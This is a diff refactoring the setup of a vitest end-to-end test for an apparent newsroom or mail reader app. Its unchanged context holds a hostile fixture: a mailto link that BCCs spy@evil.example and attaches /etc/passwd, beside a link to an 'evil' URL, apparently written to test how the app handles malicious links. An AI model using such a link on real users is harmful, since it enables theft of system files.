@@ -1,10 +1,9 @@
 import { afterAll, beforeAll, expect, it } from 'vitest';
 import { makeTemporaryFolder, removeFolder } from '../support/temporary-folder.ts';
 import { waitFor } from '../support/wait-for.ts';
-import { launchApp, type RunningApp } from './support/launch-app.ts';
+import type { RunningApp } from './support/launch-app.ts';
 import { letter } from './support/letters.ts';
 import { type Newsroom, sectionUser, startNewsroom } from './support/newsroom.ts';
-import { createProfile } from './support/set-up.ts';
 
 const userData = makeTemporaryFolder();
 let newsroom: Newsroom;
@@ -36,9 +35,7 @@ beforeAll(async () => {
       `<p><a href="${evil}">this</a></p><p><a href="mailto:desk@reader.example?bcc=spy@evil.example&attach=/etc/passwd&subject=Bridge">write</a></p>`,
     ),
   );
-  app = await launchApp({ userData });
-  await createProfile(app.page);
-  await newsroom.setUp(app.page);
+  app = await newsroom.startApp(userData);
 });
 
 afterAll(async () => {
